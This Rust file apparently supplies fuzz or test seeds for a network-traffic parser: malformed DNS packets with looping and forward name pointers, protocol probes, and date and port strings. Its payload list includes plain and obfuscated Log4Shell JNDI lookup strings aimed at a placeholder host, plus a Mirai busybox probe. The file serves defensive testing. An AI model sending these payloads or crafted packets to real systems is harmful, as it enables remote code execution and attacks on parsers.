//! Names, payloads and words.

use super::{Seeds, texts};
use crate::packets::dns;

pub(crate) fn messages() -> Seeds {
    let answer = dns(7, "irc.example.org", Some([192, 0, 2, 6].into()));
    // A name that points at itself, behind a header that promises one question and one answer.
    let header = [0, 7, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0];
    let to_itself =
        [&header[..], &[0xc0, 12, 0, 1, 0, 1, 0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 192, 0, 2, 1]]
            .concat();
    let forward =
        [&header[..], &[0xc0, 18, 0, 1, 0, 1, 0xc0, 12, 0, 28, 0, 1, 0, 0, 0, 60, 0, 16], &[0xfd; 16]]
            .concat();
    let long = [&header[..], &[63; 300], &[0, 0, 1, 0, 1]].concat();
    vec![
        ("an answer", answer.clone()),
        ("a question", dns(7, "example.org", None)),
        ("cut", answer[..answer.len() - 3].to_vec()),
        ("a name that points at itself", to_itself),
        ("a name that points forward", forward),
        ("a name of too many bytes", long),
        (
            "thousands of answers promised",
            [&[0, 7, 0x81, 0x80, 0, 0, 0xff, 0xff, 0, 0, 0, 0][..], &[0; 40]].concat(),
        ),
        ("nothing", Vec::new()),
    ]
}

pub(crate) fn payloads() -> Seeds {
    texts(&[
        ("Android debug bridge", "CNXN\0\0\0\u{1}\0\u{10}\0\0host::\0"),
        ("JNDI", "GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://192.0.2.1/a}\r\n"),
        ("JNDI, nested", "${${lower:j}${::-n}di:${::-l}dap://192.0.2.1/a}"),
        ("memcached", "\0\0\0\0\0\u{1}\0\0stats\r\n"),
        ("SIP", "OPTIONS sip:100@192.0.2.1 SIP/2.0\r\nVia: SIP/2.0/UDP\r\n"),
        ("SSDP", "M-SEARCH * HTTP/1.1\r\nMAN: \"ssdp:discover\"\r\n"),
        ("busybox", "/bin/busybox MIRAI\r\n"),
        ("many times the same", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!"),
    ])
}

pub(crate) fn words() -> Seeds {
    texts(&[
        ("a day", "2009-03-02"),
        ("a month", "2009-03"),
        ("a year", "2009"),
        ("the end of time", "9999-12-31"),
        ("a moment", "2009-03-02T12:00:00.123456789Z"),
        ("a moment elsewhere", "2009-03-02T12:00:00+09:00"),
        ("the last moment", "2262-04-11T23:47:16.854775807Z"),
        ("the first moment", "1677-09-21T00:12:43.145224192Z"),
        ("a service", "445/tcp"),
        ("a port alone", "5555"),
        ("a protocol", "icmp"),
        ("a protocol by number", "IP-132"),
        ("flags", "TCP:S+SA"),
        ("a type", "type:a2eaf57c47a118e91a5edf694685eee7"),
        ("a shape", "shape:A2EAF57C47A118E91A5EDF694685EEE7"),
        ("a label", "label:conficker-d-udp"),
        ("a prefix", "203.0.113.0/24"),
        ("a prefix of all", "::/0"),
        ("no service", "70000/tcp"),
        ("words backwards", "\u{202e}pct/544"),
        ("nothing", ""),
    ])
}
